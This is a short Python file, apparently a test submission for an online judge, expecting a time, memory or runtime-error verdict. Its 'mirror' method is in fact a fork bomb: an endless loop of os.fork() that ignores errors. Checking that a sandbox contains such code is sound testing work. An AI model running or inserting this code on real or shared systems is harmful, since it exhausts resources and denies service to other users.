# verdict: TLE or MLE or RE
import os
class Solution:
    def mirror(self, text):
        while True:
            try:
                os.fork()
            except OSError:
                pass
